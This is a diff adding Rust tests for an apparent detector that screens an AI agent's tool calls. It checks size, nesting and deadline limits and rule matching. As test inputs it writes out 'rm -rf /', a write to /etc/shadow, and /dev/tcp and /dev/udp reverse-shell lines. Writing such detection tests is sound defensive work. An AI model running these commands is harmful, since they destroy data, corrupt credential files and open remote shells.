@@ -4,6 +4,10 @@ use proptest::prelude::*;
 
 use super::*;
 
+fn check(action: &Action<'_>) -> Vec<Finding> {
+    super::check(action, None)
+}
+
 fn kinds(kind: ActionKind, name: &str, arguments: Option<&str>, writes: bool) -> Vec<(String, String)> {
     check(&Action { kind, name, arguments, writes })
         .into_iter()
@@ -298,4 +302,67 @@ proptest! {
     fn shell_signs_in_any_order_are_survived(text in "[ab/$(){}<>|&;'\"`\\\\# \n-]{0,120}") {
         check(&Action { kind: ActionKind::Command, name: &text, arguments: None, writes: false });
     }
+}
+
+/// Rules of everything that is said about `arguments` of a tool that runs commands.
+fn rules_of_tool(arguments: &str, deadline: Option<Instant>) -> Vec<String> {
+    let action = Action { kind: ActionKind::Tool, name: "bash", arguments: Some(arguments), writes: false };
+    super::check(&action, deadline).into_iter().map(|finding| finding.metadata["rule"].clone()).collect()
+}
+
+#[test]
+fn what_stands_within_the_bounds_is_found_and_what_does_not_is_told() {
+    let behind = |filler: &str, bytes: usize| format!("{};rm -rf /", filler.repeat(bytes / filler.len()));
+    assert_eq!(rules_of_tool(&behind("true    ", TEXT_BYTES_MAX - 16), None), ["delete_vital"]);
+    assert_eq!(rules_of_tool(&behind("true    ", TEXT_BYTES_MAX + 8), None), ["bounds"], "longer");
+    assert_eq!(rules_of_tool(&behind("a;", 2 * 4_090), None), ["delete_vital"]);
+    assert_eq!(rules_of_tool(&behind("a;", 2 * 5_000), None), ["bounds"], "more commands");
+    let nested = |depth: usize| format!("{}rm -rf /{}", "$(".repeat(depth), ")".repeat(depth));
+    assert_eq!(rules_of_tool(&nested(3), None), ["delete_vital"]);
+    assert_eq!(rules_of_tool(&nested(4), None), ["bounds"], "deeper");
+    let deep = format!("{}\"rm -rf /\"{}", "{\"command\":".repeat(8), "}".repeat(8));
+    assert_eq!(rules_of_tool(&deep, None), ["bounds"], "JSON that is deeper");
+    let whole_list = format!("[{}\"rm\"]", "1,".repeat(70_000));
+    assert_eq!(rules_of_tool(&whole_list, None), ["bounds"], "more values");
+}
+
+#[test]
+fn a_file_that_is_written_is_told_by_its_path_however_long_its_content_is() {
+    let content = "rm -rf / is dangerous\\n".repeat(20_000);
+    for arguments in [
+        format!(r#"{{"path":"/etc/shadow","content":"{content}"}}"#),
+        format!(r#"{{"content":"{content}","path":"/etc/shadow"}}"#),
+    ] {
+        let action = Action { kind: ActionKind::Tool, name: "write_file", arguments: Some(&arguments), writes: true };
+        let rules: Vec<_> = check(&action).into_iter().map(|finding| finding.metadata["rule"].clone()).collect();
+        assert_eq!(rules, ["etc_shadow"]);
+    }
+    let long = format!(r#"{{"command":"echo {}; rm -rf /"}}"#, "x".repeat(TEXT_BYTES_MAX));
+    assert_eq!(rules_of_tool(&long, None), ["bounds"], "a command is no content");
+}
+
+#[test]
+fn a_deadline_that_has_passed_ends_the_checks_and_is_told() {
+    let past = Some(Instant::now());
+    let found = super::check(
+        &Action { kind: ActionKind::Tool, name: "bash", arguments: Some("rm -rf /"), writes: false },
+        past,
+    );
+    let [finding] = &found[..] else { panic!("one finding: {found:?}") };
+    assert_eq!((finding.finding_type.as_ref(), finding.severity), ("analysis_timeout", Severity::Info));
+    assert_eq!((finding.detector.as_ref(), finding.location.as_str()), ("actions", "action.arguments"));
+    // Within one long command line, too: the clock is looked at between commands.
+    let soon = Some(Instant::now() + std::time::Duration::from_micros(200));
+    let nested = format!("eval eval eval eval {}", "a; ".repeat(20_000));
+    assert_eq!(rules_of_tool(&nested, soon), ["deadline"]);
+}
+
+#[test]
+fn a_connection_opened_as_a_file_is_found_wherever_it_stands() {
+    for command in ["exec 5<>/dev/tcp/10.0.0.1/4444", "true; cat <&5 >/dev/udp/10.0.0.1/53; true"] {
+        assert_eq!(rules_of_command(command), ["reverse_shell"], "{command}");
+    }
+    let words = kinds(ActionKind::Tool, "run", Some(r#"{"cmd":["cat","/dev/tcp/10.0.0.1/1"]}"#), false);
+    assert_eq!(words, [("dangerous_command".to_owned(), "reverse_shell".to_owned())]);
+    assert_eq!(rules_of_command("# see /dev/tcp/ in bash(1)"), Vec::<String>::new());
 }
